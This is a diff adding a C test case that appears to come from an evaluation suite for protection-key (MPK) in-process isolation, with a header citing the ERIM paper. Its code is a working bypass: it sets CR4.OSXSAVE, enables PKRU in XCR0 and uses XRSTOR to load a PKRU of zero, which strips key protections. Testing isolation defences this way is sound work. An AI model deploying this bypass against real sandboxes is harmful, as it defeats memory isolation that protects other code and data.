@@ -1,0 +1,32 @@
+/*
+{
+  "title": "CR4.OSXSAVE set, PKRU enabled in XCR0, XRSTOR with a PKRU of 0",
+  "precondition": "a processor with XSAVE and CR4.PKE = 1; without XSAVE the MOV to CR4 is #GP",
+  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2 (XRSTOR)",
+  "cells": {
+    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
+    "uio-mpk": {"outcome": "escaped", "rule": "I3", "event": "controlRegisterWrite"}
+  }
+}
+*/
+#include "attack.h"
+#include "processor.h"
+
+static uint8_t area[4096] __attribute__((aligned(64)));
+
+static void restore(void) {
+  write_cr4(read_cr4() | 1ull << 18);
+  __asm__ volatile("xsetbv" : : "c"(0), "a"(1u | 1u << 9), "d"(0) : "memory");
+  // The standard format: XSTATE_BV at 512, PKRU where CPUID leaf 13 says.
+  uint32_t eax = 13, offset, ecx = 9, edx;
+  __asm__ volatile("cpuid" : "+a"(eax), "=b"(offset), "+c"(ecx), "=d"(edx));
+  *(volatile uint64_t *)(area + 512) = 1ull << 9;
+  *(volatile uint32_t *)(area + offset % (sizeof area - 4)) = 0;
+  __asm__ volatile("xrstor %0" : : "m"(area), "a"(1u << 9), "d"(0) : "memory");
+}
+
+int main(void) {
+  BYPASS_OF_KEYS(restore());
+  GOAL_COUNT();
+  return 0;
+}
